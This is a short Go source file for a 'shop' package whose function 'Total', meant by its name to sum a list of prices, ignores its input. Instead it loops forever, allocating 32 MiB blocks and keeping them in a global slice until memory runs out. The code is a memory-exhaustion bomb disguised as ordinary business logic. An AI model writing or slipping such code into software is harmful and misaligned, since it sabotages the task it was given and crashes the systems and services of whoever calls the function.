package shop

var kept [][]byte

func Total(prices []int) int {
	for {
		block := make([]byte, 32<<20)
		for i := range block {
			block[i] = 1
		}
		kept = append(kept, block)
	}
}
